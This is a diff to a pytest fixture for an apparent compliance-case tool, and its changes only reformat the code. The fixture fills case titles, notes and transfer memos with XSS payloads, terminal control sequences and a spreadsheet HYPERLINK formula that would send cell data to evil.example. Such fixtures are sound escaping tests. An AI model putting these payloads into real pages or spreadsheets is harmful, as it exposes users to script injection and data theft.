@@ -10,7 +10,7 @@ import pytest
 from jupyter_compliance import Case
 
 HOSTILE = "<img src=x onerror=alert(1)>"
-BREAKOUT = '</script><script>alert(2)</script><!-- " \' & \\u003c'
+BREAKOUT = "</script><script>alert(2)</script><!-- \" ' & \\u003c"
 CONTROL = "bell\x07 esc\x1b[31m nul-ish\x01 line\nbreak\ttab ￿"
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1)'
 LINKED = "<a href='javascript:alert(3)'>href</a>"
@@ -25,11 +25,20 @@ def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
     hub, sink = "hub", HOSTILE
     rows = [("t0", start, BREAKOUT, hub, "ETH", WHALE, CONTROL)]
     rows += [
-        (f"t{i + 1}", start + timedelta(hours=i + 1), hub, f"mule{i:02}", "ETH", Decimal("1.000000000000000001"), HOSTILE)
+        (
+            f"t{i + 1}",
+            start + timedelta(hours=i + 1),
+            hub,
+            f"mule{i:02}",
+            "ETH",
+            Decimal("1.000000000000000001"),
+            HOSTILE,
+        )
         for i in range(12)
     ]
     rows += [
-        (f"u{i}", start + timedelta(hours=20 + i), f"mule{i:02}", sink, "ETH", Decimal("0.9"), FORMULA) for i in range(12)
+        (f"u{i}", start + timedelta(hours=20 + i), f"mule{i:02}", sink, "ETH", Decimal("0.9"), FORMULA)
+        for i in range(12)
     ]
     names = ("transfer_id", "ts", "src", "dst", "asset", "amount", "memo")
     columns = {name: [row[i] for row in rows] for i, name in enumerate(names)}
@@ -44,7 +53,9 @@ def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
         }
     )
     path = tmp_path_factory.mktemp("made") / "case"
-    case = Case.create(path, transfers=transfers, tags=tags, title=HOSTILE + BREAKOUT, currency="ETH", author="A. Analyst")
+    case = Case.create(
+        path, transfers=transfers, tags=tags, title=HOSTILE + BREAKOUT, currency="ETH", author="A. Analyst"
+    )
     case.note(HOSTILE + BREAKOUT, subject=hub, tags=[HOSTILE])
     case.note(CONTROL, transfer="t1")
     case.dispose(hub, "escalate", BREAKOUT)
